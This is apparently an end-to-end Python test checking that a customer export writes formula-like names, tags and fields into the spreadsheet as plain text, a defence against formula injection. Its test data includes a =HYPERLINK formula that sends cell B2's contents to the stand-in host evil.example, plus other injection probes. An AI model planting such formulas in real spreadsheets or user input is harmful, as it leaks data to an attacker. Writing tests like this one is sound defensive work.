"""A customer whose name looks like a formula is exported as that text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from infra.composition import Runtime
from resolvers.global_ids import parse_global_id
from tests.conftest import Api
from tests.e2e.test_customers import create_individual
from tests.integration.jobs import JOB, request_export
from workers.customer_export import export_customers
from workers.dependencies import WorkerDependencies

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


async def test_a_formula_in_a_name_reaches_the_customer_export_as_text(
    api: Api, runtime: Runtime
) -> None:
    await create_individual(
        api, firstName=HYPERLINK, lastName="@SUM(1+1)", tags=["-2+3"], emails=[]
    )
    job_id = await request_export(api)
    parsed = parse_global_id(job_id)
    assert parsed is not None
    # The worker's own function, run here: this test is about the file, not the delivery
    # (a later delivery of the same message finds the job finished and does nothing).
    export_customers(
        WorkerDependencies(runtime.sync_engine, runtime.files, runtime.mail), parsed[1]
    )

    url = (await api.data(JOB, {"id": job_id}))["job"]["downloadUrl"]
    response = await api.client.get(url, headers={"Authorization": f"Bearer {api.key}"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    customer = next(sheet.iter_rows(min_row=2))
    cells = {cell.column_letter: cell for cell in customer}
    assert [(cells[c].value, cells[c].data_type) for c in "DEO"] == [
        (HYPERLINK, "s"),
        ("@SUM(1+1)", "s"),
        ("-2+3", "s"),
    ]
